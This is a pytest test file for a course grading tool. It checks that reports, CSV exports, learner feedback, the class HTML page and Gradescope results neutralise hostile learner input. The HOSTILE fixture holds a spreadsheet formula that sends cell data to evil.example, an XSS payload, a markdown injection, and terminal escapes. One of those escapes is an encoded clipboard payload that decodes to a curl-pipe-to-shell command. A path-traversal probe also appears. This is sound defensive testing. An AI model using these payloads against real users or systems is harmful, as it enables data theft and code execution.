"""Course checks for what grade.py delivers: report, class page, CSV -> --finalize, feedback, Gradescope.

Cost: one --quick grading of a synthetic submission (an honest learner's functions, filled
documents), done by the Gradescope autograder itself (rubric/gradescope/run_autograder, unpacked
from the bundle) in a module fixture, about 10 s; every other test renders copies of that one
result, some given hostile names and text.
"""

from __future__ import annotations

import copy
import csv
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest

RUBRIC = Path(__file__).resolve().parents[1]
if str(RUBRIC) not in sys.path:  # appended, so the implementation under test stays first on the path
    sys.path.append(str(RUBRIC))

from grading import classview, decisions, feedback, gradescope, report, synthetic  # noqa: E402
from grading.safe_text import FORMULA_START, csv_cell, csv_uncell, file_stem, terminal  # noqa: E402
from classroom import own_bodies  # noqa: E402

ESC = "\x1b"  # hostile names below have no "/", so each can be a folder name
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
HOSTILE = {
    "formula": '=HYPERLINK("https:evil.example?q="&A1,"click")',
    "markdown": "eve\n\n| | **Total (suggested)** | | **100 of 100** |\n<!--",
    "terminal": f"mallory{OSC52}{ESC}[2J",
    "html": '<img src="http://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>',
}


def load_grade_py():
    spec = importlib.util.spec_from_file_location("grade_cli", RUBRIC / "grade.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture(scope="module")
def autograded(tmp_path_factory):
    """The bundle build.py makes, unpacked as Gradescope does (no git), run on a synthetic submission
    with every Gradescope path moved into tmp."""
    base = tmp_path_factory.mktemp("gradescope")
    sub = synthetic.make(base / "submission", code="reference", docs="filled", functions=own_bodies())  # honest, not held
    understanding = sub / "UNDERSTANDING.md"  # an answer that would set the clipboard and clear the screen
    understanding.write_text(understanding.read_text(encoding="utf-8").replace(
        "Without tools the model", f"Without tools{OSC52}{ESC}[2J the model", 1), encoding="utf-8")
    build = subprocess.run([sys.executable, str(RUBRIC / "gradescope" / "build.py"), "--out", str(base / "bundle.zip")],
                           capture_output=True, text=True, timeout=120)
    assert build.returncode == 0, build.stderr
    with zipfile.ZipFile(base / "bundle.zip") as zf:
        zf.extractall(base / "source")
    env = {k: v for k, v in os.environ.items() if k != "LESSON06_IMPL"}
    env.update(GRADESCOPE_SUBMISSION=str(sub), GRADESCOPE_RESULTS=str(base / "results" / "results.json"),
               GRADESCOPE_WORK=str(base / "work"), GRADESCOPE_GRADE_ARGS="--quick", AUTOGRADER_PYTHON=sys.executable,
               AUTOGRADER_SOURCE=str(base / "source"))
    bash = shutil.which("bash")
    command = [bash, str(base / "source" / "run_autograder")] if bash and os.name == "posix" else \
        [sys.executable, str(base / "source" / "lab" / "rubric" / "gradescope" / "autograde.py")]
    proc = subprocess.run(command, env=env, capture_output=True, text=True, timeout=900, cwd=base)
    results = json.loads((base / "results" / "results.json").read_text(encoding="utf-8"))
    reports = list((base / "work" / "reports").glob("*.json"))
    assert reports, f"grade.py wrote no report: {proc.stdout[-1500:]} {proc.stderr[-1500:]} {results}"
    return {"proc": proc, "results": results, "result": json.loads(reports[0].read_text(encoding="utf-8")),
            "bundle": base / "bundle.zip"}


@pytest.fixture
def result(autograded):
    return copy.deepcopy(autograded["result"])


def hostile(result: dict, name: str) -> dict:
    """A copy with a hostile name, hostile text wherever learner text lands, a HOLD and a READ."""
    r = copy.deepcopy(result)
    r["learner"] = name
    r["criteria"][0].update(mark="HOLD", level="HOLD", points=0, rule="integrity.reference_match", confidence=0.9)
    r["total"] = sum(c["points"] for c in r["criteria"])  # as the judgment does: HOLD earns nothing until decided
    r["criteria"][3].update(mark="READ", rule="documents.specificity", confidence="low",
                            quotes=[HOSTILE["markdown"] + OSC52, HOSTILE["html"]])
    r["criteria"][3]["reasons"].append({"rule": "documents.quote", "text": "answer says " + HOSTILE["terminal"]})
    r["criteria"][4]["evidence"].append("    > " + HOSTILE["html"] + HOSTILE["markdown"])
    r["integrity"]["flags"]["tests_or_harness_edited"] = ["code/tests/" + HOSTILE["formula"], "code/" + HOSTILE["html"]]
    r["sandbox"] = "none"
    return r


# --------------------------------------------------------------------------- 1. reports cannot be spoofed

@pytest.mark.parametrize("which", sorted(HOSTILE))
def test_markdown_report_keeps_a_hostile_name_and_text_inert(result, which):
    md = report.markdown(hostile(result, HOSTILE[which]))
    lines = md.splitlines()
    assert lines[0].startswith("**Ran without a sandbox") and lines[2].startswith("# Grading evidence: ")
    assert [x for x in lines if x.startswith("# ")] == [lines[2]], "learner text started a new heading"
    assert sum("**Total (suggested)**" in x for x in lines) == 1, "a second total row was injected"
    assert "<!--" not in md and "<img" not in md and "<script" not in md
    assert ESC not in md and "\x07" not in md, "a terminal escape reached the report"
    table = [x for x in lines if x.startswith("|")]
    assert len(table) == 10 and all(len(re.findall(r"(?<!\\)\|", x)) == 8 for x in table), table


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(result, tmp_path):
    rows = [hostile(result, HOSTILE["formula"]), hostile(result, "-2+3"), hostile(result, "@SUM(A1)")]
    decisions.write_csv(rows, tmp_path / "grades.csv")
    cells = [cell for row in csv.reader((tmp_path / "grades.csv").read_text(encoding="utf-8").splitlines()) for cell in row]
    assert "'" + HOSTILE["formula"] in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)], "a cell still starts like a formula"
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "\\x0dx" and csv_cell(5) == 5 and csv_cell("ok") == "ok"


def test_grade_py_folder_mode_prints_no_terminal_escape_and_writes_every_output(result, tmp_path, capsys, monkeypatch):
    subs = tmp_path / "subs"
    names = [HOSTILE["formula"], HOSTILE["terminal"], HOSTILE["markdown"], "plain"]
    try:
        for name in names:
            (subs / name).mkdir(parents=True)
            (subs / name / "UNDERSTANDING.md").write_text("x", encoding="utf-8")
    except (OSError, ValueError):
        pytest.skip("this file system cannot hold the hostile folder names")
    grade = load_grade_py()
    monkeypatch.setattr(grade.grader, "grade", lambda path, **kw: dict(hostile(result, path.name), seconds=1.0))
    code = grade.main([str(subs), "--csv", str(tmp_path / "grades.csv"), "--out", str(tmp_path / "reports"),
                       "--feedback", str(tmp_path / "feedback"), "--no-sandbox"])  # grading itself is replaced
    err = capsys.readouterr().err
    assert code == 0 and ESC not in err and "\x07" not in err and "\\x1b]52" in err
    assert len(read_rows(tmp_path / "grades.csv")) == 4
    assert len(list((tmp_path / "reports").glob("*.md"))) == 4 and len(list((tmp_path / "feedback").glob("*.md"))) == 4
    page = (tmp_path / "reports" / "class.html").read_text(encoding="utf-8")
    assert isinstance(json.loads((tmp_path / "reports" / "class.json").read_text(encoding="utf-8"))["similar_pairs"], list)
    parsed = parse_html(page)
    for name in names:  # the link to each report points at the file grade.py wrote
        assert any(h.endswith(".md") and (tmp_path / "reports" / unquote(h)).is_file() for h in parsed.hrefs), name


def test_escape_sequences_from_understanding_md_reach_no_output(result, autograded):
    assert [a for a in result["understanding"]["answers"] if OSC52 in a["excerpt"]], "the hostile answer is not in the result"
    r = hostile(result, "alice")
    r["criteria"][3]["quotes"] = [a["excerpt"] for a in r["understanding"]["answers"] if OSC52 in a["excerpt"]]
    outputs = {"markdown": report.markdown(r), "class page": classview.render([r]), "feedback": feedback.render(r),
               "results.json": "\n".join([autograded["results"]["output"]] + [t["output"] for t in autograded["results"]["tests"]]),
               "CSV": ",".join(str(csv_cell(v)) for v in decisions.csv_row(r))}
    for where, text in outputs.items():
        assert ESC not in text and "\x07" not in text, f"a raw escape sequence reached the {where}"
    assert "\\x1b]52" in outputs["class page"] and "x1b\\]52" in outputs["markdown"]


# --------------------------------------------------------------------------- 2. a short report, summary first

def test_report_starts_with_a_ten_line_summary_flags_first_and_stays_short(result):
    r = hostile(result, "alice")
    lines = report.markdown(r).splitlines()
    first = next(i for i, x in enumerate(lines) if x.startswith("## "))
    summary = [x for x in lines[3:first] if x.strip()]
    assert lines[0].startswith("**Ran without a sandbox") and lines[2].startswith("# Grading evidence: alice")
    assert summary[0].startswith("**Flags first:** no sandbox: learner code ran with") and "HOLD C1" in summary[0]
    assert len([x for x in summary if x.startswith("|")]) == 10  # header, separator, 7 rows, total
    assert "| HOLD |" in summary[3] and "integrity.reference_match" in summary[3]
    assert len(lines) <= 90, f"{len(lines)} lines: the details belong in the JSON and the class page"


def test_every_reason_names_the_rule_that_decided(result):
    r = hostile(result, "alice")
    lines = report.markdown(r).splitlines()
    reasons = [x for x in lines if x.startswith("- [")]
    assert len(reasons) >= sum(min(5, len(c["reasons"])) for c in r["criteria"])
    assert any(x.startswith("- [documents.quote]") for x in reasons)
    assert any(x.startswith("- [integrity.reference_match]") for x in reasons)


# --------------------------------------------------------------------------- 3. CSV -> --finalize

def graded_reports(result, folder: Path) -> list:
    """Two learners' JSON reports in ``folder``: one with a HOLD on C1, one without."""
    folder.mkdir()
    rs = [hostile(result, HOSTILE["formula"]), copy.deepcopy(result)]
    rs[1]["learner"] = "bob"
    for r in rs:
        (folder / f"{file_stem(r['learner'])}.json").write_text(json.dumps(r), encoding="utf-8")
    return rs


def read_rows(path: Path) -> list:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def edit(path: Path, changes: dict) -> None:
    rows = read_rows(path)
    for row in rows:
        row.update(changes.get(row["learner"], {}))
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)


def test_finalize_turns_the_instructors_decisions_into_grades_and_feedback(result, tmp_path):
    rs = graded_reports(result, tmp_path / "reports")
    decisions.write_csv(rs, tmp_path / "grades.csv")
    first = read_rows(tmp_path / "grades.csv")[0]
    assert first["c1_level"] == "HOLD" and first["c1_confidence"] == "90 %" and "[integrity.reference_match]" in first["c1_why"]
    edit(tmp_path / "grades.csv", {"'" + HOSTILE["formula"]: {"c1_level": "developing", "note_to_learner": "Come see me."},
                                   "bob": {"c6_level": "Missing"}})
    errors = decisions.finalize(tmp_path / "grades.csv", tmp_path / "reports", tmp_path / "final.csv", tmp_path / "fb")
    assert errors == []
    final = {csv_uncell(r["learner"]): r for r in read_rows(tmp_path / "final.csv")}
    hostile_row, bob = final[HOSTILE["formula"]], final["bob"]
    assert hostile_row["c1_level"] == "Developing" and hostile_row["c1_implementation"] == "10"
    assert "C1 HOLD -> Developing" in hostile_row["changed_from_suggestion"]
    assert bob["c6_level"] == "Missing" and int(bob["total"]) == rs[1]["total"] - rs[1]["criteria"][5]["points"]
    text = (tmp_path / "fb" / f"{file_stem(HOSTILE['formula'])}.md").read_text(encoding="utf-8")
    assert "Come see me." in text and f"Your grade: {hostile_row['total']} / 100" in text


def test_finalize_refuses_an_edited_csv_it_cannot_trust_with_one_line_per_problem(result, tmp_path, capsys):
    graded_reports(result, tmp_path / "reports")
    rs = [json.loads(p.read_text(encoding="utf-8")) for p in sorted((tmp_path / "reports").glob("*.json"))]
    decisions.write_csv(rs + [dict(copy.deepcopy(rs[1]), learner="zed")], tmp_path / "grades.csv")
    edit(tmp_path / "grades.csv", {"bob": {"c3_level": "Great"}})
    code = load_grade_py().main(["--finalize", str(tmp_path / "grades.csv"), "--out", str(tmp_path / "reports"),
                                 "--csv", str(tmp_path / "final.csv")])
    err = capsys.readouterr().err.splitlines()
    assert code == 2 and not (tmp_path / "final.csv").exists()
    assert len(err) == 3, err
    assert any("C1 is still HOLD" in e for e in err)
    assert any("'bob'" in e and "C3 level 'Great' is not in the rubric" in e for e in err)
    assert any("'zed'" in e and "unknown learner" in e for e in err)
    assert all(ESC not in e for e in err)


# --------------------------------------------------------------------------- 4. feedback for the learner

def test_feedback_says_how_to_reproduce_each_failure_and_holds_no_instructor_notes(result):
    r = copy.deepcopy(result)
    r["criteria"][0].update(level="Developing", points=10, reasons=["milestone tests fail: M3 failing",
                                                                      "check that the learner can explain it"])
    r["tests"].append({"nodeid": "code/tests/test_m3_dispatch.py::test_unknown_tool_is_an_error", "milestone": "M3",
                       "outcome": "failed", "not_done": False,
                       "message": "M3 dispatch_tool\ncalled: dispatch_tool(root, 'nope', {})\nexpected: an error string\n"
                                  "got: KeyError"})
    r["criteria"][2].update(level="Developing", points=6)
    probe = {"probe": "climb through a sub-folder", "argument": "'docs/../../outside/secret.txt'", "result": "leaked",
             "detail": "returned <tmp>/outside/secret.txt"}
    r["battery"]["climbs"] = {"status": "leaked", "probes": [probe]}
    r["criteria"][4].update(level="Developing", points=6)
    r["failure_analysis"]["breaks"]["runaway"]["comparison"][0] = ["steps", "12 model calls", "50 model calls", False]
    text = feedback.render(r)
    assert 'python -m pytest --unlock-all "code/tests/test_m3_dispatch.py::test_unknown_tool_is_an_error"' in text
    assert "`expected: an error string`" in text and "`got: KeyError`" in text and "`called: dispatch_tool(root, 'nope', {})`" in text
    assert "docs/../../outside/secret.txt" in text and "**leaked**" in text
    assert "`12 model calls`" in text and "`50 model calls`" in text and "break_and_observe.py runaway --simulate" in text
    assert "check that" not in text and "matches the reference" not in text.lower() and "integrity" not in text.lower()


def test_feedback_on_hold_says_only_that_the_instructor_will_talk_with_the_learner(result):
    text = feedback.render(hostile(result, "alice"))
    section = text.split("### 1.")[1].split("###")[0]
    assert "will talk with you" in section and "reference" not in section.lower() and "HOLD" not in text
    assert "similar" not in text.lower() and "sandbox" not in text.split("## What")[0].lower()


# --------------------------------------------------------------------------- 5. the class page

class Page(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.hrefs, self.ids, self.text, self.resources = [], [], set(), [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        attrs = dict(attrs)
        if attrs.get("id"):
            self.ids.add(attrs["id"])
        if "href" in attrs:
            self.hrefs.append(attrs["href"])
        self.resources += [v for k, v in attrs.items() if k in ("src", "srcset", "data", "action", "poster") and v]
        self.resources += [k for k in attrs if k.startswith("on")]

    def handle_data(self, data):
        self.text.append(data)


def parse_html(page: str) -> Page:
    p = Page()
    p.feed(page)
    p.close()
    return p


def test_class_page_is_self_contained_escaped_and_links_every_cell_to_its_evidence(result):
    plain = dict(copy.deepcopy(result), learner="aaron")
    plain["integrity"]["flags"] = {}
    rs = [plain] + [hostile(result, HOSTILE[k]) for k in sorted(HOSTILE)]
    pairs = [{"a": rs[1]["learner"], "b": "bob", "score": 0.93, "kind": "prose", "shared": [HOSTILE["html"]]},
             {"a": "bob", "b": rs[1]["learner"], "score": 0.93, "kind": "prose", "shared": [HOSTILE["html"]]}]
    page = classview.render(rs, pairs=pairs)
    p = parse_html(page)
    assert p.tags[0] == "html" and p.tags.count("table") == 2 and p.tags.count("section") == len(rs)
    assert not {"script", "img", "link", "iframe", "object", "embed", "base", "form"} & set(p.tags)
    assert p.resources == [], "an element loads or runs something"
    assert not [h for h in p.hrefs if re.match(r"[a-z][a-z0-9+.-]*:|//", h, re.I)], "a link leaves the page's folder"
    assert all(h[1:] in p.ids for h in p.hrefs if h.startswith("#")), "a cell links to evidence that is not there"
    cells = [h for h in p.hrefs if re.fullmatch(r"#l\d+-c\d", h)]
    assert len(cells) == len(rs) * 7
    text = "".join(p.text)
    assert ESC not in page and "\x07" not in page
    for r in rs:  # every learner present, as text (control characters shown as escapes)
        assert terminal(r["learner"]) in text
    assert text.index("aaron") > text.index("mallory"), "learners with a flag or HOLD come first"
    assert "HOLD" in text and "READ" in text and "90 %" in text and text.count("93 %") == 1  # the pair, once


# --------------------------------------------------------------------------- 6. Gradescope

VISIBLE = {"hidden", "after_due_date", "after_published", "visible"}
FORMATS = {"text", "simple_format", "html", "md", "ansi"}
TOP = {"score": (int, float), "execution_time": (int, float), "output": str, "output_format": str,
       "test_output_format": str, "test_name_format": str, "visibility": str, "stdout_visibility": str,
       "extra_data": dict, "tests": list, "leaderboard": list}
TEST = {"score": (int, float), "max_score": (int, float), "status": str, "name": str, "name_format": str,
        "number": str, "output": str, "output_format": str, "tags": list, "visibility": str, "extra_data": dict}


def gradescope_problems(data) -> list:
    """Gradescope's documented results.json format (autograder specification, 'Output format')."""
    if not isinstance(data, dict):
        return ["results.json is not an object"]
    problems = [f"top-level {k}: {type(v).__name__}" for k, v in data.items() if k in TOP and
                (not isinstance(v, TOP[k]) or isinstance(v, bool))]
    problems += [f"unknown top-level key {k}" for k in data if k not in TOP]
    if "score" not in data and not all("score" in t for t in data.get("tests", [])):
        problems.append("no top-level score and a test without one")
    for key in ("visibility", "stdout_visibility"):
        if key in data and data[key] not in VISIBLE:
            problems.append(f"{key} {data[key]!r}")
    problems += [f"{k} {data[k]!r}" for k in ("output_format", "test_output_format", "test_name_format")
                 if k in data and data[k] not in FORMATS]
    for i, t in enumerate(data.get("tests", [])):
        problems += [f"test {i} {k}: {type(v).__name__}" for k, v in t.items() if k in TEST and
                     (not isinstance(v, TEST[k]) or isinstance(v, bool))]
        problems += [f"test {i}: unknown key {k}" for k in t if k not in TEST]
        if "score" in t and "max_score" in t and not 0 <= t["score"] <= t["max_score"]:
            problems.append(f"test {i}: score {t['score']} outside 0..{t['max_score']}")
        if t.get("visibility", "visible") not in VISIBLE or t.get("status", "passed") not in ("passed", "failed"):
            problems.append(f"test {i}: visibility or status")
        if t.get("output_format", "text") not in FORMATS or t.get("name_format", "text") not in FORMATS:
            problems.append(f"test {i}: format")
    return problems


def test_run_autograder_writes_a_results_json_in_gradescopes_format(autograded):
    data, r = autograded["results"], autograded["result"]
    assert gradescope_problems(data) == [], data
    graded = [t for t in data["tests"] if "max_score" in t]
    assert [t["name"] for t in graded] == [f"C{c['number']} {c['title']}" for c in r["criteria"]]
    assert data["score"] == sum(t["score"] for t in graded) == r["total"]
    assert sum(t["max_score"] for t in graded) == 100
    assert data["visibility"] == "after_published" and all(t["visibility"] == "after_published" for t in graded)
    notes = [t for t in data["tests"] if "max_score" not in t]
    assert len(notes) == 1 and notes[0]["visibility"] == "hidden"


def test_a_criterion_on_hold_scores_zero_and_says_an_instructor_will_review_it(result):
    data = gradescope.results(hostile(result, HOSTILE["html"]))
    assert gradescope_problems(data) == []
    c1 = data["tests"][0]
    assert c1["score"] == 0 and "instructor will review" in c1["output"] and c1["tags"] == ["HOLD"]
    assert data["score"] == result["total"] - result["criteria"][0]["points"] > 0
    assert "<img" not in json.dumps(data) and "<script" not in json.dumps(data)  # the name, in the hidden notes too


def test_a_submission_that_cannot_be_graded_still_gets_a_valid_results_json(tmp_path, monkeypatch):
    spec = importlib.util.spec_from_file_location("autograde", RUBRIC / "gradescope" / "autograde.py")
    autograde = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(autograde)
    monkeypatch.setenv("GRADESCOPE_SUBMISSION", str(tmp_path / "nothing-here"))
    monkeypatch.setenv("GRADESCOPE_RESULTS", str(tmp_path / "results.json"))
    monkeypatch.setenv("GRADESCOPE_WORK", str(tmp_path / "work"))
    assert autograde.main() == 0
    data = json.loads((tmp_path / "results.json").read_text(encoding="utf-8"))
    assert gradescope_problems(data) == [] and data["score"] == 0 and "nothing-here" in data["tests"][0]["output"]


def test_the_bundle_has_its_two_scripts_at_the_root_and_the_lab_without_secrets(autograded):
    with zipfile.ZipFile(autograded["bundle"]) as zf:
        names = zf.namelist()
        modes = {i.filename: i.external_attr >> 16 for i in zf.infolist()}
        manifest = zf.read("lab/lab-manifest.txt").decode("utf-8").split()
    assert {"setup.sh", "run_autograder", "lab/requirements.txt", "lab/conftest.py", "lab/rubric/grade.py",
            "lab/rubric/gradescope/autograde.py"} <= set(names)
    assert modes["run_autograder"] & 0o111 and modes["setup.sh"] & 0o111
    assert not [n for n in names if n.endswith("/.env") or "__pycache__" in n or n.startswith("lab/.git/")]
    assert sorted(f"lab/{m}" for m in manifest) == sorted(n for n in names if n.startswith("lab/") and n != "lab/lab-manifest.txt")


def test_the_unpacked_bundle_grades_like_the_checkout(autograded):
    """Without git in the container the grader copies the manifest's files: the board must run (no
    missing conftest or harness), so the reference's C1 is not lost to an import error."""
    r = autograded["result"]
    assert r["board"]["M1"].startswith("passing") and r["criteria"][0]["level"] != "Missing", r["criteria"][0]["reasons"]
